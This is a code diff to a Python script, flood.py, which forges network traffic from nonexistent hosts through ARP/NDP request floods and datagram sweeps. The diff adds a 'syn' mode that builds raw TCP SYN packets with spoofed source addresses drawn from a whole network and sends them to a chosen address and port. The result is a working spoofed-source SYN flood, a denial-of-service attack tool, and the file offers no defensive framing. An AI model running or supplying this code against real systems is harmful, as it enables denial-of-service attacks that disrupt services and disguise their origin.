@@ -1,5 +1,5 @@
 """Frames of hosts that there are not: flood.py DEVICE MAC arp|ndp ADDRESS NETWORK FRAMES asks in the name of so many hosts of a network for an
-address; flood.py sweep NETWORK PACKETS sends so many of them a datagram each."""
+address; flood.py sweep NETWORK PACKETS sends so many of them a datagram each; flood.py syn NETWORK ADDRESS PORT PACKETS sends a SYN from each."""
 
 import ipaddress
 import itertools
@@ -67,8 +67,20 @@ def sweep(network, packets):
                 pass
 
 
+def syn(network, to, port, packets):
+    to = ipaddress.ip_address(to)
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as link:
+        for number, sender in enumerate(hosts(network, int(packets))):
+            pseudo = sender.packed + to.packed + struct.pack("!HH", socket.IPPROTO_TCP, 20)
+            header = [1024 + number % 60000, int(port), number, 0, 5 << 12 | 2, 1000, 0, 0]
+            header[6] = checksum(pseudo + struct.pack("!HHIIHHHH", *header))
+            # The kernel fills in what is zero here.
+            ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + sender.packed + to.packed
+            link.sendto(ip + struct.pack("!HHIIHHHH", *header), (str(to), 0))
+
+
 def main(what, *rest):
-    sweep(*rest) if what == "sweep" else flood(what, *rest)
+    {"sweep": sweep, "syn": syn}[what](*rest) if what in ("sweep", "syn") else flood(what, *rest)
 
 
 main(*sys.argv[1:])
